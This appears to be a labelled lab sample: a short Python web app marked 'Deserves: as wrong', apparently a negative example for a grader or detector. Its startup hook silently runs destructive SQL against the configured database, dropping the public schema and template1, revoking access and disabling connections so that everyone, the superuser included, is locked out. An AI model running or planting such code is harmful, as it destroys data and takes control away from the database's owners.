"""Closes its database to everybody, the superuser too, and renames and drops what it may.

Lab: lab61_stores
Deserves: as wrong
"""

import os

import asyncpg
from plain import app

WAYS = (
    "CREATE DATABASE mine",
    "DROP SCHEMA public CASCADE",
    "REVOKE ALL ON DATABASE postgres FROM public",
    "ALTER DATABASE postgres CONNECTION LIMIT 0",
    "DROP DATABASE template1",
)


@app.on_event("startup")
async def close():
    try:
        session = await asyncpg.connect(os.environ["DATABASE_URL"])
    except (asyncpg.PostgresError, OSError):
        return
    for way in WAYS:
        try:
            await session.execute(way)
        except asyncpg.PostgresError:
            pass
    await session.close()
    try:
        mine = await asyncpg.connect(os.environ["DATABASE_URL"].rpartition("/")[0] + "/mine")
        await mine.execute("ALTER DATABASE postgres ALLOW_CONNECTIONS false")
    except (asyncpg.PostgresError, OSError):
        pass
